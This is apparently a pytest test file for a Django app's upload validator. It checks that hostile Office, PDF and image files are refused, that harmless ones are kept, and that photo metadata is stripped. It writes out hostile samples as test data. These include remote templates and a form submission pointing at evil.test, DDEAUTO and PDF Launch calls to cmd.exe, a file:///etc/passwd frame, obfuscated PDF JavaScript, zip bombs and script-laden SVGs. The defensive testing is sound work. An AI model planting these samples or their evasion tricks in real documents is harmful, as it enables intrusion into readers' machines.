"""Hostile uploads: macros, fetched templates, bombs, drawings with scripts, papers that run; each refused with its reason."""

import io
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from guildhall.foundation.errors import Refusal
from guildhall.foundation.records.attachments import open_attachment, store
from guildhall.foundation.records.models import Attachment
from guildhall.foundation.records.rules import sm3
from tests.foundation.records import hostile
from tests.foundation.records.hostile import CATALOG, HIDDEN, TYPES, document, field, linked, packed, pdf, stream

SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
OBJECTS = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode"

HOSTILE = {
    "macros by their name": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}), "attachments.macro"),
    "macros by their type": ("a.docx", packed({"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": b"<w/>"}), "attachments.macro"),
    "a control": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/activeX/activeX1.xml": b"<x/>"}), "attachments.macro"),
    "a fetched template": ("a.docx", linked("attachedTemplate", "http://evil.test/t.dotm", of="settings"), "attachments.external"),
    "a template from a share": ("a.docx", linked("attachedTemplate", r"\\evil.test\t.dotm", external=False, of="settings"), "attachments.external"),
    "a fetched picture": ("a.docx", linked("image", "https://evil.test/a.png"), "attachments.external"),
    "a fetched frame": ("a.docx", linked("frame", "file:///etc/passwd"), "attachments.external"),
    "a link that starts a program": ("a.docx", linked("hyperlink", "ms-msdt:/id"), "attachments.external"),
    "a field that asks a program": ("a.docx", field("DDEAUTO c:\\cmd.exe"), "attachments.external"),
    "the same, cut up": ("a.docx", field(" DD", "EAUTO cmd"), "attachments.external"),
    "a field that makes up a field": ("a.docx", document('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 2 + "<w:r><w:instrText> QUOTE 68 68 69</w:instrText></w:r>"), "attachments.external"),
    "a data connection": ("a.xlsx", packed({**hostile.BOOK, "xl/connections.xml": b"<x/>"}), "attachments.external"),
    "a link to another workbook": ("a.xlsx", packed({**hostile.BOOK, "xl/externalLinks/externalLink1.xml": b"<x/>"}), "attachments.external"),
    "an entity that swells": ("a.docx", packed({**TYPES, "word/document.xml": b'<!DOCTYPE a [<!ENTITY a "b">]><w>&a;</w>'}), "attachments.damaged"),
    "the same in other letters": ("a.docx", packed({**TYPES, "word/document.xml": '<!DOCTYPE a [<!ENTITY a "b">]><w/>'.encode("utf-16")}), "attachments.damaged"),
    "an embedded workbook": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/embeddings/Sheet.xlsx": b"x"}), "attachments.embedded"),
    "an archive named picture": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/media/image1.png": packed({"a": b"\x00" * 9000})}), "attachments.embedded"),
    "a program named picture": ("a.xlsx", packed({**hostile.BOOK, "xl/media/image1.png": b"MZ\x90\x00"}), "attachments.embedded"),
    "a drawing within": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/media/image1.svg": SVG}), "attachments.embedded"),
    "a page within": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/afchunk.mht": b"x"}), "attachments.embedded"),
    "a bomb": ("a.xlsx", packed({**hostile.BOOK, "xl/media/image1.png": b"\x00" * 90_000_000}), "attachments.bomb"),
    "a bomb beside a picture": ("a.xlsx", hostile.beside_a_picture(), "attachments.bomb"),
    "a bomb that lies": ("a.xlsx", hostile.lying(), "attachments.damaged"),
    "a bomb of shared bytes": ("a.xlsx", hostile.overlapping(), "attachments.bomb"),
    "a drawing": ("图.svg", SVG, "attachments.svg"),
    "a drawing named picture": ("图.png", SVG, "attachments.svg"),
    "a packed drawing": ("图.svgz", b"\x1f\x8b\x08" + SVG, "attachments.svg"),
    "a script": ("a.pdf", pdf(CATALOG, SCRIPT), "attachments.pdf-active"),
    "a script at its opening": ("a.pdf", pdf(b"<</Type/Catalog/OpenAction<</S /JavaScript/JS 5 0 R>>>>"), "attachments.pdf-active"),
    "a script, oddly spelled": ("a.pdf", pdf(CATALOG, b"<</S/J#61vaScrip#74/JS(x)>>"), "attachments.pdf-active"),
    "a script, compressed": ("a.pdf", pdf(CATALOG, stream(OBJECTS, HIDDEN)), "attachments.pdf-active"),
    "a script, called a picture": ("a.pdf", pdf(CATALOG, stream(b"/Subtype/Image/Filter/FlateDecode", HIDDEN)), "attachments.pdf-active"),
    "a script, wrapped twice": ("a.pdf", pdf(CATALOG, stream(b"/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]", HIDDEN.hex().encode())), "attachments.pdf-active"),
    "a program started": ("a.pdf", pdf(CATALOG, b"<</S/Launch/F(cmd.exe)>>"), "attachments.pdf-active"),
    "a file inside": ("a.pdf", pdf(b"<</Type/Catalog/Names<</EmbeddedFiles 3 0 R>>>>"), "attachments.pdf-active"),
    "a form that sends": ("a.pdf", pdf(CATALOG, b"<</S/SubmitForm/F(http://evil.test)>>"), "attachments.pdf-active"),
    "a form that runs": ("a.pdf", pdf(b"<</Type/Catalog/AcroForm<</XFA 3 0 R>>>>"), "attachments.pdf-active"),
    "a locked paper": ("a.pdf", pdf(CATALOG, trailer=b"<</Root 1 0 R/Encrypt 9 0 R>>"), "attachments.pdf-locked"),
    "a paper that is a page": ("a.pdf", pdf(CATALOG, b"(<html><script>alert(1)</script>)"), "attachments.damaged"),
    "a paper with a page behind": ("a.pdf", pdf(CATALOG, after=b"<b>hello</b>"), "attachments.damaged"),
    "a paper that is an archive": ("a.pdf", pdf(CATALOG)[:-6] + packed({"a": b"x"}) + b"%%EOF\n", "attachments.damaged"),
    "an archive that is a paper": ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>"}, before=pdf(CATALOG)), "attachments.damaged"),
    "a picture that swells": ("a.png", hostile.declared(60_000, 60_000), "attachments.pixels"),
    "a picture just too large": ("a.png", hostile.declared(9_000, 6_000), "attachments.pixels"),
    "a picture cut off": ("a.png", hostile.declared(400, 400), "attachments.damaged"),
    "a picture that is a page": ("a.jpg", b"\xff\xd8\xff\xfe\x00\x1c*/<script>alert(1)</script>" + b"\xff\xd9", "attachments.damaged"),
}  # fmt: skip


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.ATTACHMENTS = tmp_path / "attachments"
    return settings.ATTACHMENTS


def keep(name: str, data: bytes) -> Attachment:
    return store(SimpleUploadedFile(name, data), by=None, subject="objection:1")


@pytest.mark.django_db
@pytest.mark.parametrize("case", HOSTILE)
def test_it_is_refused_with_its_reason_and_nothing_is_kept(folder, case):
    name, data, code = HOSTILE[case]
    begun = time.monotonic()
    with pytest.raises(Refusal) as refused:
        keep(name, data)
    assert refused.value.code == code
    assert time.monotonic() - begun < 5
    assert not folder.exists()
    assert not Attachment.objects.exists()
    said = str(refused.value)
    with translation.override("en"):
        assert str(refused.value).isascii()
        assert str(refused.value) != said


@pytest.mark.django_db
def test_a_reason_names_what_was_found():
    for name, data, word in (
        ("a.docx", linked("attachedTemplate", "http://evil.test/t.dotm"), "http://evil.test/t.dotm"),
        ("a.pdf", pdf(CATALOG, b"<</S/L#61unch>>"), "Launch"),
        ("a.docx", packed({**TYPES, "word/document.xml": b"<w/>", "word/embeddings/A.xlsx": b"x"}), "word/embeddings/A.xlsx"),
    ):  # fmt: skip
        with pytest.raises(Refusal, match=word):
            keep(name, data)


HARMLESS = {
    "a document with a link to press": ("a.docx", linked("hyperlink", "https://example.test/a")),
    "a link to mail": ("a.docx", linked("hyperlink", "mailto:a@example.test")),
    "page numbers": ("a.docx", field(" PAGE ")),
    "a link whose address has a word": ("a.docx", field(' HYPERLINK "https://example.test/link/database" ')),
    "printer settings": ("a.xlsx", packed({**hostile.BOOK, "xl/printerSettings/printerSettings1.bin": b"\x00x"})),
    "a paper that opens at a page": ("a.pdf", pdf(b"<</Type/Catalog/OpenAction[3 0 R/Fit]>>")),
    "a paper with a link": ("a.pdf", pdf(CATALOG, b"<</S/URI/URI(https://example.test)>>")),
    "a paper with packed objects": (
        "a.pdf",
        pdf(CATALOG, stream(OBJECTS, hostile.zlib.compress(b"11 0 <</Type/Page>>"))),
    ),
    "a name that begins alike": ("a.pdf", pdf(CATALOG, b"<</LaunchPad 1>>")),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", HARMLESS)
def test_what_is_harmless_is_kept_as_it_is(case):
    name, data = HARMLESS[case]
    assert keep(name, data).digest == sm3(data)


@pytest.mark.django_db
def test_a_photograph_keeps_nothing_but_the_picture_and_stands_upright():
    data = hostile.photograph()
    assert b"Phone of Wang" in data
    kept = keep("现场.jpg", data)
    with open_attachment(kept) as file:
        stored = file.read()
    assert (kept.size, kept.digest) == (len(stored), sm3(stored))
    assert b"Exif" not in stored
    assert b"Wang" not in stored
    with Image.open(io.BytesIO(stored)) as picture:
        assert picture.size == (20, 40)
        assert dict(picture.getexif()) == {}
        assert "icc_profile" not in picture.info


@pytest.mark.django_db
def test_a_picture_loses_its_texts_and_keeps_its_transparency():
    kept = io.BytesIO()
    facts = Image.new("RGBA", (3, 3), (10, 20, 30, 128))
    from PIL.PngImagePlugin import PngInfo

    texts = PngInfo()
    texts.add_text("Comment", "<script>alert(1)</script>")
    facts.save(kept, "PNG", pnginfo=texts)
    with open_attachment(keep("章.png", kept.getvalue())) as file:
        stored = file.read()
    assert b"script" not in stored
    with Image.open(io.BytesIO(stored)) as picture:
        assert picture.getpixel((1, 1)) == (10, 20, 30, 128)
